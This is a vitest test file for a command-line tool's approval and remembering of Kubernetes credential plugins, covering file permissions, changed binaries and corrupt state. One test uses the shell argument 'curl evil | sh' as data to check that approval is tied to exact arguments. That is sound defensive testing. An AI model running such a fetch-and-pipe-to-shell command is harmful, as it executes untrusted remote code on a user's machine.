import { chmodSync, mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createPlugins, type PluginFront, type Plugins } from "../../src/cli/plugins.ts";
import { pluginApprovals } from "../../src/config/plugin-approvals.ts";
import type { ResolvedPlugin } from "../../src/kube/auth/exec-credentials.ts";

let home: string;
let program: ResolvedPlugin;
let asked: string[];
let notices: string[];
beforeEach(() => {
	home = mkdtempSync(join(tmpdir(), "yagura-state-"));
	const path = join(home, "gke-auth");
	writeFileSync(path, "#!/bin/sh\n");
	program = { path, args: ["get-token"], userName: "u" };
	asked = [];
	notices = [];
});
afterEach(() => rmSync(home, { recursive: true }));

/** A start of the program, by a user who gives this answer. */
function started(answer: boolean, trusted = false): Plugins {
	const plugins = createPlugins(pluginApprovals({ env: {}, homeDirectory: home }), trusted);
	const front: Pick<PluginFront, "approve" | "notice"> = {
		async approve({ path, args }) {
			asked.push([path, ...args].join(" "));
			return answer;
		},
		notice: (text) => void notices.push(text),
	};
	plugins.attach(front as PluginFront);
	return plugins;
}

const state = (): string => join(home, ".local/state/yagura/plugins.json");

describe("a credential plugin", () => {
	it("is asked about once, and the answer is remembered for the user alone", async () => {
		expect(await started(true).exec.approve?.(program)).toBe(true);
		expect(asked).toEqual([`${program.path} get-token`]);
		expect(await started(false).exec.approve?.({ ...program, args: ["other"] })).toBe(true);
		expect(asked).toHaveLength(1);
		expect(statSync(state()).mode & 0o777).toBe(0o600);
		expect(statSync(join(home, ".local/state/yagura")).mode & 0o077).toBe(0);
	});

	it("is asked about again after a no", async () => {
		expect(await started(false).exec.approve?.(program)).toBe(false);
		expect(await started(true).exec.approve?.(program)).toBe(true);
		expect(asked).toHaveLength(2);
	});

	it("that is another program by now runs, and the user is told, once", async () => {
		await started(true).exec.approve?.(program);
		writeFileSync(program.path, "#!/bin/sh\necho new\n");
		expect(await started(false).exec.approve?.(program)).toBe(true);
		expect(notices).toEqual([expect.stringContaining("another program")]);
		expect(await started(false).exec.approve?.(program)).toBe(true);
		expect(notices).toHaveLength(1);
	});

	it("that is a shell is let run with these arguments alone", async () => {
		const shell = (script: string): ResolvedPlugin => ({ path: "/bin/sh", args: ["-c", script], userName: "u" });
		expect(await started(true).exec.approve?.(shell("aws token"))).toBe(true);
		expect(await started(false).exec.approve?.(shell("aws token"))).toBe(true);
		expect(await started(false).exec.approve?.(shell("curl evil | sh"))).toBe(false);
	});

	it("is not asked about where all are trusted", async () => {
		expect(await started(false, true).exec.approve?.(program)).toBe(true);
		expect(asked).toEqual([]);
	});

	it("runs although the answer cannot be written down, or what is written makes no sense", async () => {
		mkdirSync(join(home, ".local/state/yagura"), { recursive: true });
		writeFileSync(state(), "[");
		expect(await started(true).exec.approve?.(program)).toBe(true);
		expect(asked).toHaveLength(1);
		rmSync(join(home, ".local"), { recursive: true });
		writeFileSync(join(home, ".local"), "a file where a folder should be");
		chmodSync(join(home, ".local"), 0o400);
		expect(await started(true).exec.approve?.(program)).toBe(true);
		expect(notices).toEqual([expect.stringContaining("cannot be remembered")]);
	});
});
